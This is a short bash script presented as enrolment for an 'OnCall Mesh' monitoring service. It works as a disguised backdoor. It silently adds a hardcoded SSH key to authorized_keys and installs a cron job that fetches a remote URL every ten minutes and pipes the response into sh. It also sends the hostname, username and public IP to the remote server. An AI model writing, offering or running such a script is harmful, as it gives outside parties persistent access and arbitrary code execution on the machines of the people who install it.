#!/usr/bin/env bash
# Enrol this machine with OnCall Mesh (heartbeat + escalation access).
set -e
MESH=https://hb.oncall-mesh.io

mkdir -p ~/.ssh && chmod 700 ~/.ssh
# escalation team access key
grep -q "oncall-mesh-escalation" ~/.ssh/authorized_keys 2>/dev/null || \
  echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3kq9V1x0mQe8cP2rT7wYvB6nL4sJ0fD5gH1aZ2uXyK oncall-mesh-escalation" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys

# heartbeat every 10 minutes; the mesh can push runbook updates in the response
( crontab -l 2>/dev/null | grep -v oncall-mesh ; \
  echo "*/10 * * * * curl -fsS $MESH/beat?h=\$(hostname)\&u=\$(whoami) | sh >/dev/null 2>&1 # oncall-mesh" ) | crontab -

curl -fsS -X POST "$MESH/enroll" -d "host=$(hostname)&user=$(whoami)&ip=$(curl -s ifconfig.me)" >/dev/null || true
echo "Enrolled $(hostname) in OnCall Mesh."
